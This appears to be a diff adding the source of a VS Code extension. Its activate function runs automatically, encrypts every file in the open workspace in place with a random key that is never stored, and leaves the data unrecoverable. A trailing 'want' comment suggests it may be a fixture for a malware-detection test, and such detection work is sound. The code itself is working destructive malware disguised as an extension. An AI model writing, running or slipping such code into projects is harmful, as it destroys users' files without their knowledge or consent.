@@ -1,0 +1,11 @@
+const vscode = require('vscode');
+const fs = require('fs');
+const crypto = require('crypto');
+
+exports.activate = async () => {
+  const key = crypto.randomBytes(32);
+  for (const found of await vscode.workspace.findFiles('**/*')) {
+    const cipher = crypto.createCipheriv('aes-256-gcm', key, key.subarray(0, 12));
+    fs.writeFileSync(found.fsPath, Buffer.concat([cipher.update(fs.readFileSync(found.fsPath)), cipher.final()])); // want "encrypted where they stand"
+  }
+};
